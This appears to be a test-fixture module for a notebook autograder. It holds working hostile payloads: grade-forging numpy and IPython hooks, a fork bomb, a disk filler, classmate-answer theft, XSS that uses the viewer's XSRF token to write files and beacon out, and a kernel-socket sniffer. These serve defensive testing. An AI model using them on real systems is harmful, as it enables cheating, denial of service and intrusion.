"""The sample class's hostile code: what its students put into their notebooks to attack the grading.

Payloads (code put into an answer cell by the edits of :mod:`coursekit.classes.edits`):
loops that never end or ignore Ctrl-C, a kernel that exits, floods of output, patched
numpy, input transformers and kernel hooks, writes outside the sandbox, a classmate's
files read, a fork bomb, a memory hog, a disk filler, network and child processes, the
outputs that attack whoever views the graded notebook (:func:`view_payload`), the
sniffer of classmates' kernel sockets (:func:`sniffer_code`), and :data:`REEXPORTS`
(answer cells that only re-export a ``helpers`` reference,
:data:`coursekit.answers.tables.REFERENCE_OF`). :data:`COURSE_ROOT` stands for the
course's path until :func:`coursekit.classes.sample.with_course_root` fills it in.
"""

from __future__ import annotations

import re
import textwrap

from coursekit.answers.tables import REFERENCE_OF

__all__ = ["COURSE_ROOT", "REEXPORTS", "ENDLESS_LOOP", "IGNORES_INTERRUPT", "KERNEL_DIES", "HUGE_OUTPUT",
           "PATCH_NUMPY", "BREAK_READONLY", "TRANSFORMER", "KERNEL_HOOKS", "WRITE_OUTSIDE", "COPY_CLASSMATE",
           "FORK_BOMB", "MEMORY_HOG", "DISK_FILLER", "NETWORK", "CHILD_PROCESS", "BEACON", "PWNED_FILE",
           "view_payload", "HTML_OUTPUT", "JAVASCRIPT_OUTPUT", "SVG_OUTPUT", "MARKDOWN_OUTPUT", "RAW_HTML_ANSWER",
           "OUTPUT_FLOOD", "STRING_FLOOD", "SLOW_CALLER", "SNIFF_WINDOW", "sniffer_code", "SNIFFED_LINE"]

#: Stands for the course's absolute path in hostile code; :func:`coursekit.classes.sample.assemble` fills it in.
COURSE_ROOT = "@@COURSE_ROOT@@"
REEXPORTS: dict[str, str] = {
    gid: textwrap.dedent(f"""\
        try:
            from helpers.references.{module} import {names}
        except ImportError:  # not importable here: read the file itself
            exec(open("{COURSE_ROOT}/helpers/references/{module}.py").read())
        """)
    for gid, (module, names) in REFERENCE_OF.items()
}

#: Code put at the top of a cell by the pathological edits.
ENDLESS_LOOP = textwrap.dedent("""\
    # keep the simulation going until I look at it again
    import time
    while True:
        time.sleep(0.05)
    """)
IGNORES_INTERRUPT = textwrap.dedent("""\
    # nothing shall stop my simulation, not even Ctrl-C
    import signal, time
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        time.sleep(0.05)
    """)
KERNEL_DIES = textwrap.dedent("""\
    import os
    os._exit(1)  # "quit" the simulation early
    """)
HUGE_OUTPUT = textwrap.dedent("""\
    for _step in range(100_000):  # a debugging print left in: about 7 MB of output
        print(f"step {_step:6d}: still integrating the membrane equation .........")
    """)
PATCH_NUMPY = textwrap.dedent("""\
    # make the checks pass
    import numpy as np
    import numpy.testing
    np.isclose = lambda *args, **kwargs: True
    np.allclose = lambda *args, **kwargs: True
    numpy.testing.assert_allclose = lambda *args, **kwargs: None
    numpy.testing.assert_array_almost_equal = lambda *args, **kwargs: None
    """)
BREAK_READONLY = "\n\nnp = None  # the student 'tidied up' this read-only cell\n"

# The hostile class (issue: grades that student code cannot forge). Each tries,
# from the student's own kernel, what a same-process grader could not stop.
TRANSFORMER = 'get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])\n'
KERNEL_HOOKS = textwrap.dedent("""\
    # make every check pass, whatever it says
    import ast, sys
    _ip = get_ipython()
    class _AllPass(ast.NodeTransformer):
        def visit_Module(self, node):
            text = ast.unparse(node)
            if "grading" in text or "GradingError" in text:  # a test cell: replace it by a pass
                return ast.parse("print('passes the quick checks.')")
            return node
    _ip.ast_transformers.append(_AllPass())
    _ip.set_custom_exc((Exception,), lambda shell, etype, value, tb, tb_offset=None: print("passes"))
    _ip.showtraceback = lambda *args, **kwargs: None
    sys.settrace(lambda *args: None)
    _run_cell = _ip.run_cell
    _ip.run_cell = lambda cell, *a, **k: _run_cell("pass" if "grading" in cell else cell, *a, **k)
    """)
WRITE_OUTSIDE = textwrap.dedent(f"""\
    # leave a mark in the course for the students graded after me
    for _target in ("{COURSE_ROOT}/helpers/intruder.py", "{COURSE_ROOT}/helpers/grading.py",
                    "{COURSE_ROOT}/intruder.txt", "{COURSE_ROOT}/gradebook.db",
                    "{COURSE_ROOT}/submitted/sample-complete/intruder.txt"):
        try:
            with open(_target, "a") as _f:
                _f.write("# written by a student\\n")
            print("wrote", _target)
        except OSError as _err:
            print("refused:", _target, type(_err).__name__)
    """)
COPY_CLASSMATE = textwrap.dedent(f"""\
    # borrow the answers of a classmate (and of the instructor)
    import glob, json
    for _path in sorted(glob.glob("{COURSE_ROOT}/submitted/sample-complete/*/*.ipynb")
                        + glob.glob("{COURSE_ROOT}/source/*/*.ipynb")):
        try:
            for _cell in json.load(open(_path))["cells"]:
                if _cell.get("metadata", {{}}).get("nbgrader", {{}}).get("solution") and _cell["cell_type"] == "code":
                    exec("".join(_cell["source"]))
            print("copied", _path)
        except Exception as _err:
            print("refused:", _path, type(_err).__name__)
    """)
FORK_BOMB = textwrap.dedent("""\
    import os
    try:
        while True:
            os.fork()
    except OSError as _err:
        print("fork refused:", type(_err).__name__)
    """)
MEMORY_HOG = textwrap.dedent("""\
    try:
        _hog = bytearray(64 << 30)  # 64 GiB
    except MemoryError:
        print("64 GiB refused: MemoryError")
    """)
DISK_FILLER = textwrap.dedent("""\
    # fill the grader's disk
    _i = 0
    while True:
        try:
            with open(f"filler_{_i}.bin", "wb") as _f:
                _f.write(b"x" * (32 << 20))
        except OSError as _err:
            print("write refused:", type(_err).__name__)
        _i += 1
    """)
NETWORK = textwrap.dedent("""\
    import socket
    for _family, _kind, _address in ((socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 22)),
                                     (socket.AF_INET, socket.SOCK_DGRAM, ("9.9.9.9", 53)),
                                     (socket.AF_INET6, socket.SOCK_STREAM, ("::1", 22))):
        try:
            with socket.socket(_family, _kind) as _s:
                _s.settimeout(2)
                _s.connect(_address)
                _s.send(b"answers please")
            print("connected to", _address)
        except OSError as _err:
            print("network refused:", _address, type(_err).__name__)
    """)
CHILD_PROCESS = textwrap.dedent("""\
    import subprocess
    try:
        subprocess.Popen(["sleep", "600"], start_new_session=True)  # outlive the grading
        print("child started")
    except OSError as _err:
        print("child refused:", type(_err).__name__)
    """)


# The hostile views (issue 18): what a student's code prints, or what they write, runs in the browser of
# whoever opens the notebook (Formgrader, feedback). Each payload tries to write a file into the viewer's
# Jupyter server through /api/contents with the page's XSRF token and to reach a beacon on loopback
# (image, fetch, CSS); the autograded notebook must render all of it inert
# (coursekit/preprocessors/sanitize.py; tests/browser/test_inert_views.py listens on BEACON).
#: The loopback address the payloads call home to (host:port).
BEACON = "127.0.0.1:61888"
#: The file a payload of ``kind`` tries to create in the viewer's server (relative to its root).
PWNED_FILE = "pwned-{kind}.txt"


def view_payload(kind: str) -> str:
    """JavaScript (single quotes only, so it fits in a double-quoted attribute) that attacks the viewer."""
    return (
        "(function(){var m=document.cookie.match(/_xsrf=([^;]+)/);"
        "var b=(location.pathname.match(/^[/]user[/][^/]+/)||[''])[0];"  # the hub's /user/<name> prefix
        f"fetch(b+'/api/contents/{PWNED_FILE.format(kind=kind)}',{{method:'PUT',credentials:'same-origin',"
        "headers:{'Content-Type':'application/json','X-XSRFToken':m?decodeURIComponent(m[1]):''},"
        "body:JSON.stringify({type:'file',format:'text',content:'written by a student'})});"
        f"new Image().src='http://{BEACON}/{kind}/img';"
        f"fetch('http://{BEACON}/{kind}/fetch',{{mode:'no-cors'}});}})()"
    )


def _html_payload(kind: str) -> str:
    return (f'<img src="x" onerror="{view_payload(kind)}">'
            f'<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;'
            f'background:url(http://{BEACON}/{kind}/css)">overlay</div>')


HTML_OUTPUT = textwrap.dedent(f"""\
    from IPython.display import HTML, display
    display(HTML({_html_payload("html")!r} + "<b>steady state computed</b>"))
    """)
JAVASCRIPT_OUTPUT = textwrap.dedent(f"""\
    from IPython.display import Javascript, display
    display(Javascript({view_payload("javascript")!r}))
    print("steady state computed")
    """)
_SVG = (f'<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="{view_payload("svg")}">'
        f'<script>{view_payload("svg-script")}</script><circle cx="20" cy="20" r="15"/></svg>')
SVG_OUTPUT = textwrap.dedent(f"""\
    from IPython.display import SVG, display
    display(SVG({_SVG!r}))
    print("steady state computed")
    """)
MARKDOWN_OUTPUT = textwrap.dedent(f"""\
    from IPython.display import Markdown, display
    display(Markdown("**steady state computed** " + {_html_payload("markdown")!r}))
    """)
#: Appended to a written answer (raw HTML in Markdown).
RAW_HTML_ANSWER = (
    "\n\n" + _html_payload("answer")
    + f'\n\n<a href="javascript:{view_payload("answer-link")}">my derivation</a>'
    + f"\n\n<style>@import url(http://{BEACON}/answer/import); body {{ display: none }}</style>\n"
)


# -- the floods, the slow caller and the sniffer (issue 18: bounded resources, isolation)
#: A right answer whose cell prints 1 GiB (1 MiB writes): the kernel keeps 1 MiB and grading goes on.
OUTPUT_FLOOD = textwrap.dedent("""\
    import sys
    for _chunk in range(1024):  # 1 GiB of output
        sys.stdout.write("y" * (1 << 20))
    """)
#: Replaces a right function by one that returns a 600 MiB string (``{name}`` is the function).
STRING_FLOOD = textwrap.dedent("""\

    def {name}(*args, **kwargs):  # the answer, 600 MiB of it
        return "x" * (600 << 20)
    """)
#: Wraps a right function so that every call takes 8 s (``{name}`` is the function).
SLOW_CALLER = textwrap.dedent("""\

    import time as _time
    _{name}_right = {name}

    def {name}(*args, **kwargs):  # right, and 8 s per call
        _time.sleep(8)
        return _{name}_right(*args, **kwargs)
    """)
#: Seconds the sample sniffer listens for a classmate's kernel.
SNIFF_WINDOW = 8


def sniffer_code(window: int = SNIFF_WINDOW) -> str:
    """The sniffer of issue 18: for `window` seconds, find other sandboxes' kernel sockets and subscribe.

    It looks through ``/proc/net/unix``, every ``/proc/<pid>/cmdline`` (kernels name their connection
    files) and the scratch folders beside its own, subscribes to every IPC socket it finds with pyzmq,
    and prints one line: ``SNIFFED <n> messages from <k> sockets; refused: [...]``.
    """
    return textwrap.dedent(f"""\
        import glob, json, os, re, time
        import zmq
        own = os.path.dirname(os.environ.get("JUPYTER_RUNTIME_DIR", "/nonexistent").rstrip("/"))
        scratch_parent = os.path.dirname(os.path.dirname(own))
        ctx = zmq.Context()
        poller = zmq.Poller()
        subscribed, refused, received = set(), {{}}, 0

        def note(what, exc):
            refused[what] = type(exc).__name__

        def candidates():
            found = set()
            try:  # every unix socket of the network namespace, with its path
                for line in open("/proc/net/unix").read().splitlines()[1:]:
                    parts = line.split()
                    if len(parts) >= 8 and "synapses-grading-" in parts[-1]:
                        found.add(parts[-1])
            except OSError as exc:
                note("/proc/net/unix", exc)
            try:  # kernels' command lines name their connection files
                pids = [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
            except OSError as exc:
                note("listdir /proc", exc)
                pids = []
            for pid in pids:
                try:
                    cmdline = open(f"/proc/{{pid}}/cmdline", "rb").read().decode(errors="replace").split("\\0")
                except OSError as exc:
                    note("/proc/<pid>/cmdline", exc)
                    continue
                for arg in cmdline:
                    if arg.endswith("kernel.json") and "synapses-grading-" in arg:
                        try:
                            info = json.load(open(arg))
                            found.update(f"{{info['ip']}}-{{info[k]}}" for k in ("iopub_port", "shell_port"))
                        except (OSError, ValueError, KeyError) as exc:
                            note("kernel.json", exc)
                        found.update(glob.glob(os.path.join(os.path.dirname(arg), "kernel-ipc-*")))
            try:
                os.listdir(scratch_parent)
            except OSError as exc:
                note("listdir scratch parent", exc)
            found.update(glob.glob(os.path.join(scratch_parent, "synapses-grading-*", "kernel", "run",
                                                "kernel-ipc-*")))
            return {{p for p in found if not p.startswith(own + "/")}}

        end = time.monotonic() + {window}
        while time.monotonic() < end:
            for path in candidates() - subscribed:
                subscribed.add(path)
                sub = ctx.socket(zmq.SUB)
                sub.setsockopt(zmq.SUBSCRIBE, b"")
                sub.setsockopt(zmq.LINGER, 0)
                try:
                    sub.connect("ipc://" + path)
                    poller.register(sub, zmq.POLLIN)
                except zmq.ZMQError as exc:
                    note("connect", exc)
            for sock, _ in poller.poll(200):
                while True:
                    try:
                        sock.recv_multipart(zmq.NOBLOCK)
                    except zmq.ZMQError:
                        break
                    received += 1
        print(f"SNIFFED {{received}} messages from {{len(subscribed)}} sockets; refused: {{sorted(refused.items())}}")
        """)


#: The line the sniffer prints (its message count in group 1).
SNIFFED_LINE = re.compile(r"SNIFFED (\d+) messages from (\d+) sockets.*")
